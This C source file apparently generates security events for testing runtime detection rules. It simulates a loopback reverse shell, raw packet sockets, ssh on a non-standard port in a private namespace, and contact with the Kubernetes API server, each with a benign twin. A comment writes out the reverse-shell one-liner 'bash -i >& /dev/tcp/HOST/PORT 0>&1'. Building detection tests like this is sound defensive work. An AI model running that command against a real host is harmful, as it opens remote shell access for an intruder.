/* network.c - the actions on the network: stdio redirected to a socket,
 * packet sockets, ssh to a non-standard port (in a network namespace of
 * its own), connections to the Kubernetes API server. */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include "eventgen.h"

#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <netdb.h>
#include <arpa/inet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <sys/ioctl.h>
#include <sys/socket.h>

/* The client side of the ssh actions, as ssh -p PORT USER@HOST: one TCP
 * connection from a fixed port, closed at once. */
int step_ssh_connect(void)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(SSH_CLIENT_PORT) };
	int port = step_argc > 2 ? atoi(step_argv[2]) : 22, s, ret = 0;

	s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (s < 0)
		return fail("socket");
	inet_pton(AF_INET, SSH_SERVER_ADDR, &a.sin_addr);
	if (bind(s, (struct sockaddr *)&a, sizeof(a)))
		ret = fail("bind");
	a.sin_port = htons(port);
	if (!ret && connect(s, (struct sockaddr *)&a, sizeof(a)))
		ret = fail("connect");
	close(s);
	return ret;
}

/* A network namespace of our own with SSH_SERVER_ADDR on its loopback and a
 * listener on it at port argv[1]; ssh connects to it there. Nothing leaves
 * the namespace, which goes away with this process. Without CAP_SYS_ADMIN
 * (an unprivileged container) there is no namespace: skipped. */
int step_ssh_netns(void)
{
	const char *port = step_argc > 1 ? step_argv[1] : "22";
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(atoi(port)) };
	struct ifreq ifr;
	int s, srv = -1, ret = 0;
	char dest[64];

	if (unshare(CLONE_NEWNET)) {
		fprintf(stderr, "%s: ssh: skipped, no network namespace of our own: %s\n", prog,
			strerror(errno));
		return 0;
	}
	inet_pton(AF_INET, SSH_SERVER_ADDR, &a.sin_addr);
	s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (s < 0)
		return fail("socket");
	memset(&ifr, 0, sizeof(ifr));
	strcpy(ifr.ifr_name, "lo");
	if (ioctl(s, SIOCGIFFLAGS, &ifr) < 0)
		ret = fail("SIOCGIFFLAGS lo");
	ifr.ifr_flags |= IFF_UP;
	if (!ret && ioctl(s, SIOCSIFFLAGS, &ifr) < 0)
		ret = fail("SIOCSIFFLAGS lo");
	memset(&ifr, 0, sizeof(ifr));
	strcpy(ifr.ifr_name, "lo:1");
	memcpy(&ifr.ifr_addr,
	       &(struct sockaddr_in){ .sin_family = AF_INET, .sin_addr = a.sin_addr },
	       sizeof(struct sockaddr_in));
	if (!ret && ioctl(s, SIOCSIFADDR, &ifr) < 0)
		ret = fail("SIOCSIFADDR lo:1");
	close(s);
	if (!ret) {
		srv = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
		if (srv < 0 || bind(srv, (struct sockaddr *)&a, sizeof(a)) || listen(srv, 1))
			ret = fail("listen");
	}
	snprintf(dest, sizeof(dest), "shrike@%s", SSH_SERVER_ADDR);
	if (!ret)
		ret = run_as("ssh", "ssh_connect", (const char *[]){ "-p", port, dest, NULL });
	if (srv >= 0)
		close(srv);
	return ret;
}

static int tcp_socket(int port)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(port) };
	int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), one = 1;

	if (s < 0)
		return -1;
	a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	/* A port still taken (TIME_WAIT of an earlier run) falls back to any. */
	if (bind(s, (struct sockaddr *)&a, sizeof(a))) {
		a.sin_port = 0;
		bind(s, (struct sockaddr *)&a, sizeof(a));
	}
	return s;
}

/* A loopback connection whose client end a child duplicates onto 0, 1 and 2,
 * as bash -i >& /dev/tcp/HOST/PORT 0>&1 does; the child then just exits. */
int reverse_shell(void)
{
	struct sockaddr_in a;
	socklen_t alen = sizeof(a);
	int srv, cli = -1, conn = -1, ret = 0;
	pid_t pid;

	srv = tcp_socket(RSHELL_SERVER_PORT);
	if (srv < 0 || listen(srv, 1) || getsockname(srv, (struct sockaddr *)&a, &alen)) {
		ret = fail("listen");
		goto out;
	}
	cli = tcp_socket(RSHELL_CLIENT_PORT);
	if (cli < 0 || connect(cli, (struct sockaddr *)&a, sizeof(a))) {
		ret = fail("connect");
		goto out;
	}
	conn = accept4(srv, NULL, NULL, SOCK_CLOEXEC);
	pid = fork();
	if (pid < 0) {
		ret = fail("fork");
	} else if (pid == 0) {
		int fd;

		for (fd = 0; fd <= 2; fd++)
			if (dup2(cli, fd) < 0)
				_exit(1);
		_exit(0);
	} else {
		ret = wait_child(pid);
	}
out:
	/* The server closes last: the TIME_WAIT stays on its side. */
	if (cli >= 0)
		close(cli);
	if (conn >= 0)
		close(conn);
	if (srv >= 0)
		close(srv);
	return ret;
}

/* What shells do all day: a pipe and a file redirected onto 0 and 1. */
int reverse_shell_benign(void)
{
	int p[2];
	pid_t pid;

	if (pipe2(p, O_CLOEXEC))
		return fail("pipe");
	pid = fork();
	if (pid < 0)
		return fail("fork");
	if (pid == 0) {
		int fd = open("/dev/null", O_RDWR);

		if (dup2(p[1], 1) < 0 || fd < 0 || dup2(fd, 0) < 0)
			_exit(1);
		_exit(0);
	}
	close(p[0]);
	close(p[1]);
	return wait_child(pid);
}

/* Opens and closes a socket: the socket() call is the event. */
static int socket_once(int domain, int type, const char *what)
{
	int s = socket(domain, type | SOCK_CLOEXEC, 0);

	if (s < 0)
		return fail(what);
	close(s);
	return 0;
}

int packet_socket(void)
{
	/* ETH_P_ALL is not bound until bind(): protocol 0 receives nothing. */
	return socket_once(AF_PACKET, SOCK_RAW, "socket(AF_PACKET)");
}

int packet_socket_benign(void)
{
	return socket_once(AF_INET, SOCK_DGRAM, "socket(AF_INET)");
}

/* The namespace is made by a runc-named copy: "Change namespace" lets a
 * container runtime's unshare pass, and this action is not about it. */
int ssh_nonstandard_port(void)
{
	return run_as("runc", "ssh_netns", (const char *[]){ "443", NULL });
}

int ssh_nonstandard_port_benign(void)
{
	return run_as("runc", "ssh_netns", (const char *[]){ "22", NULL });
}

/* A TCP connection to NAME:PORT (its first address) from client_port (0:
 * any), closed at once. Where the address is one of this host's (the VM
 * tests put the API server's on lo), a listener of ours takes it, so that
 * the connect completes; elsewhere the real server does. */
static int connect_name(const char *name, int port, int client_port)
{
	struct addrinfo hints = { .ai_family = AF_UNSPEC, .ai_socktype = SOCK_STREAM }, *res;
	struct sockaddr_storage any = { 0 };
	int rc, srv, cli, one = 1, ret = 0;

	rc = getaddrinfo(name, NULL, &hints, &res);
	if (rc) {
		fprintf(stderr, "%s: %s does not resolve: %s\n", prog, name, gai_strerror(rc));
		return -1;
	}
	if (res->ai_family == AF_INET)
		((struct sockaddr_in *)res->ai_addr)->sin_port = htons(port);
	else
		((struct sockaddr_in6 *)res->ai_addr)->sin6_port = htons(port);
	srv = socket(res->ai_family, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (srv >= 0 && (setsockopt(srv, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one)) ||
			 bind(srv, res->ai_addr, res->ai_addrlen) || listen(srv, 1))) {
		close(srv);
		srv = -1;
	}
	cli = socket(res->ai_family, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (cli < 0) {
		ret = fail("socket");
		goto out;
	}
	any.ss_family = res->ai_family;
	if (res->ai_family == AF_INET)
		((struct sockaddr_in *)&any)->sin_port = htons(client_port);
	else
		((struct sockaddr_in6 *)&any)->sin6_port = htons(client_port);
	setsockopt(cli, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (client_port && bind(cli, (struct sockaddr *)&any, res->ai_addrlen))
		fprintf(stderr, "%s: port %d taken, connecting from any\n", prog, client_port);
	if (connect(cli, res->ai_addr, res->ai_addrlen))
		ret = fail("connect");
	close(cli);
out:
	if (srv >= 0)
		close(srv);
	freeaddrinfo(res);
	return ret;
}

/* As a pod's API client (kubectl, a client library) does, from the
 * container: what "Contact K8S API server from container" is about. */
int contact_k8s_api(void)
{
	return connect_name(K8S_API_NAME, K8S_API_PORT, K8S_CLIENT_PORT);
}

int contact_k8s_api_benign(void)
{
	return connect_name("localhost", K8S_BENIGN_PORT, 0);
}
